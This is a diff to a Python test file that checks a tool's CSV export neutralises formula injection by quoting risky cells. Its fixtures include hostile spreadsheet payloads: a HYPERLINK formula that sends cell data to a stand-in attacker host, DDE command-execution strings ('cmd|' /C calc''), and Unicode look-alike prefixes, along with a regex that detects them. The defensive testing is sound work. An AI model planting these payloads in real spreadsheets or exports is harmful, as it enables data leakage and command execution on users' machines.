@@ -239,7 +239,11 @@ def test_the_agents_streamed_output_is_inert(hostile) -> None:
 # --- item 12: CSV formula injection --------------------------------------------------------
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "'=already quoted", "plain text"]
+            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "'=already quoted", "plain text",
+            # behind white space, or a look-alike a spreadsheet also takes (DDE's "|")
+            " =1+1", "\n=1+1", "\u00a0=1+1", "\u3000+1", "\uff1d1+1", "\uff0b1",
+            "\uff0d1", "\uff20SUM(1)", "|cmd'!A0", "' \uff1dalready quoted"]
+_RUNS = re.compile(r"\s*[=+\-@|\uff1d\uff0b\uff0d\uff20]")
 
 
 def _planted_formulas(hostile) -> None:
@@ -264,9 +268,11 @@ def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(hostile, args) -> 
     for row in rows[1:]:
         for cell in row:
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
+            assert not _RUNS.match(cell), (cell, row)
     shown = {row[1] for row in rows[1:]}
     assert "'" + FORMULAS[0] in shown and "'@SUM(1,1)" in shown and "''=already quoted" in shown
     assert "plain text" in shown
+    assert {"' =1+1", "'\n=1+1", "'\uff1d1+1", "'|cmd'!A0", "'' \uff1dalready quoted"} <= shown
     tags = {row[rows[0].index("tags")] for row in rows[1:]} - {""}
     assert tags == {"'=tag", "'+tag", "'-tag", "'@tag"}
 
@@ -293,8 +299,9 @@ def test_raw_csv_keeps_the_text_and_a_neutralised_export_imports_back_the_same(h
             hostile.aidp("tasks", "list", "--all", "--json", cwd=fresh).out)}
         want = text(stored)
         if flag:  # docs/guide.md: reading aidp's CSV takes one "'" off before a formula
-            quoted = next(k for k, t in stored.items() if t["description"] == FORMULAS[6])
-            want[quoted] = ("=already quoted", [], "=already quoted")
+            for text_ in (FORMULAS[6], FORMULAS[-1]):
+                quoted = next(k for k, t in stored.items() if t["description"] == text_)
+                want[quoted] = (text_[1:], [], text_[1:])
         assert text(back) == want
 
 
